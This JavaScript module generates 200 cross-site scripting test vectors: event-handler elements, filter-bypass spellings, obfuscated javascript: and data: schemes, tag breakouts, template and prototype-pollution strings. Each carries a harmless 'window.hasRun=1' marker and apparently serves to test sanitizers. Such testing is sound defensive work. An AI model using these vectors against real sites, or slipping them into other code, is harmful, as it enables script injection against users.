/** Code that would show that it has run. */
const RUN = 'window.hasRun=1';

/** Elements that load or move something by themselves, with the event that tells. */
const SELF_RUNNING = [
  'img src=x onerror', 'img srcset=x onerror', 'image src=x onerror', 'svg onload', 'svg/onload', 'body onload', 'body onpageshow', 'video src=x onerror', 'audio src=x onerror',
  'video><source onerror', 'object data=x onerror', 'embed src=x onload', 'iframe onload', 'iframe src=about:blank onload', 'input autofocus onfocus', 'select autofocus onfocus',
  'textarea autofocus onfocus', 'button autofocus onfocus', 'details open ontoggle', 'marquee onstart', 'marquee loop=1 width=0 onfinish', 'style onload', 'link rel=stylesheet href=x onerror',
  'script src=x onerror', 'svg><animate onbegin', 'svg><set onbegin', 'svg><image href=x onerror', 'math><mtext onload', 'a autofocus tabindex=1 onfocus', 'div contenteditable autofocus onfocus',
  'x onanimationstart', 'x ontransitionend', 'picture><img src=x onerror', 'track src=x onerror', 'dialog open onclose', 'input type=image src=x onerror', 'frameset onload', 'isindex type=image src=1 onerror',
];

/** Ways in which an attribute may be written so that a filter passes over it. */
const SPELLINGS = [
  (element) => `<${element}=${RUN}>`,
  (element) => `<${element}="${RUN}">`,
  (element) => `"'><${element.toUpperCase()}=${RUN}>`,
  (element) => `<${element.replace(' ', '/')}\t=\t'${RUN}' x`,
];

const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;', '&#106;avascript:', '\u0001javascript:', 'vbscript:', 'livescript:',
  'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFzUnVuPTE8L3NjcmlwdD4', 'view-source:javascript:', 'feed:javascript:', 'blob:null/', 'file:///',
];

/** Ways in which an address comes into a text: bare, in markup of ours, in markup of others. */
const LINKS = [(scheme) => `${scheme}${RUN}//`, (scheme) => `<a href="${scheme}${RUN}">press</a>`, (scheme) => `[press](${scheme}${RUN})`];

const OTHERS = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script>${RUN}`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `<!--><script>${RUN}</script>`, `<![CDATA[><script>${RUN}</script>]]>`, `<script type=module>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<form><button formaction=javascript:${RUN}>press</button></form>`, `<base href=javascript:${RUN}//>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<object data="javascript:${RUN}">`,
  `<style>@import 'javascript:${RUN}'</style>`, `<div style="background:url(javascript:${RUN})">`, `<x style="width:expression(${RUN})">`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cscript\\x3e${RUN}`, `+ADw-script+AD4-${RUN}`, `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `';${RUN};'`, `";${RUN};"`, `\`;${RUN};\``, `');${RUN}//`, `*/${RUN}/*`, `\u2028${RUN}`, `__proto__[hasRun]=1`, `{"__proto__":{"hasRun":1}}`,
  `**<b onclick=${RUN}>x</b>**`, `\`<img src=x onerror=${RUN}>\``, `\`\`\`\n</code></pre><script>${RUN}</script>\n\`\`\``, `> <img src=x onerror=${RUN}>`, `https://example.org/"onmouseover="${RUN}`, `https://example.org/'><script>${RUN}</script>`,
];

const every = SPELLINGS.flatMap((spelling) => SELF_RUNNING.map(spelling));
const links = LINKS.flatMap((link) => SCHEMES.map(link));

/** 200 texts, each different, each of which runs where it is taken for markup, script or an address. */
export const VECTORS = [...new Set([...OTHERS, ...links, ...every])].slice(0, 200);
